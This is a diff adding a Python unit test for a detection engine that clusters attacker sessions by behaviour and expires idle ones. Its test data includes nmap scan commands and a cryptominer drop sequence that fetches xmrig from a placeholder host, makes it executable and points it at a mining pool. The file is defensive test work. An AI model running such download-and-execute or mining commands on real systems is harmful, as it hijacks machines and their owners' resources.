@@ -0,0 +1,50 @@
+import unittest
+
+try:
+    import numpy as np
+except ImportError:
+    np = None
+
+
+@unittest.skipUnless(np is not None, "numpy indisponible")
+class TestProfileEngine(unittest.TestCase):
+    def test_sessions_grouped_by_behaviour(self):
+        from detection.profiles import ProfileEngine
+        profiles = []
+        engine = ProfileEngine(capacity=64, session_timeout=600, on_profile=profiles.append)
+        scanner = ["nmap -sV 10.0.0.1", "nmap -p- 10.0.0.1", "curl http://10.0.0.1/admin"]
+        miner = ["uname -a", "cd /tmp", "wget http://x/xmrig", "chmod +x xmrig", "./xmrig -o stratum+tcp://p:3333"]
+        ts = 0.0
+        for i in range(300):
+            commands, gap = (scanner, 0.05) if i % 2 else (miner, 3.0)
+            for command in commands:
+                ts += gap
+                engine.observe(f"10.1.{i // 256}.{i % 256}", command, ts=ts)
+            # Les sessions précédentes expirent au fil de l'eau ; la capacité reste fixe
+            ts += 1
+        engine.flush()
+        self.assertEqual(len(profiles), 300)
+        self.assertEqual(len(engine), 0)
+        by_cluster = {}
+        for profile in profiles:
+            by_cluster.setdefault(profile["cluster"], set()).add("miner" in profile["tools"])
+        self.assertTrue(all(len(kinds) == 1 for kinds in by_cluster.values()))
+        self.assertEqual(engine.n_clusters, 2)
+        self.assertEqual({frozenset(c["tools"]) for c in engine.clusters()},
+                         {frozenset({"nmap", "curl"}), frozenset({"wget", "miner"})})
+
+    def test_idle_timeout_splits_sessions(self):
+        from detection.profiles import ProfileEngine
+        engine = ProfileEngine(capacity=4, session_timeout=60)
+        engine.observe("1.2.3.4", "ls", ts=0)
+        engine.observe("1.2.3.4", "id", ts=10)
+        closed = engine.expire(100)
+        self.assertEqual([p["events"] for p in closed], [2])
+        for i in range(6):
+            engine.observe(f"10.0.0.{i}", "whoami", ts=200 + i)
+        self.assertEqual(len(engine), 4)
+        self.assertEqual(engine.profiles, 3)
+
+
+if __name__ == "__main__":
+    unittest.main()